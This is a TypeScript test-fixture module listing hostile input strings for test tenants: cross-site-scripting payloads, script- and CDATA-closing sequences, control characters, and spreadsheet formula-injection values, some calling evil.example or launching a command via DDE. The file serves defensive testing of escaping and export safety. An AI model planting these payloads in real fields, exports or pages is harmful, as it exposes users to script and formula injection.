/**
 * Hostile strings for `hostile: true` tenants: markup, script-closing tags, characters XML forbids, and
 * spreadsheet formula prefixes (= + - @). They stay schema-valid: names fit their maximum lengths and
 * addresses still match the `email` format (local parts may carry `=`, `+` and `-`).
 */
export const HOSTILE_NAMES = [
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  'Robert\u0001\u000B\uFFFE Tables',
  '=HYPERLINK("http://evil.example/","x")',
  '+SUM(1,2)',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '"><svg/onload=alert(2)>',
  ']]><!-- &amp; &lt;x&gt;',
] as const;

/** Local parts for hostile addresses (formula prefixes survive the `email` format). */
export const HOSTILE_EMAIL_LOCALS = ['=1+2', '+cmd', '-2+3', "=cmd|'/Ccalc'!A0"] as const;

export const HOSTILE_LABELS = [
  '<b onmouseover=alert(3)>label</b>',
  '</textarea><script>alert(4)</script>',
  '=IMPORTXML("http://evil.example","//a")',
  'ctrl\u0001\u000B\uFFFEchars',
  '@label',
] as const;
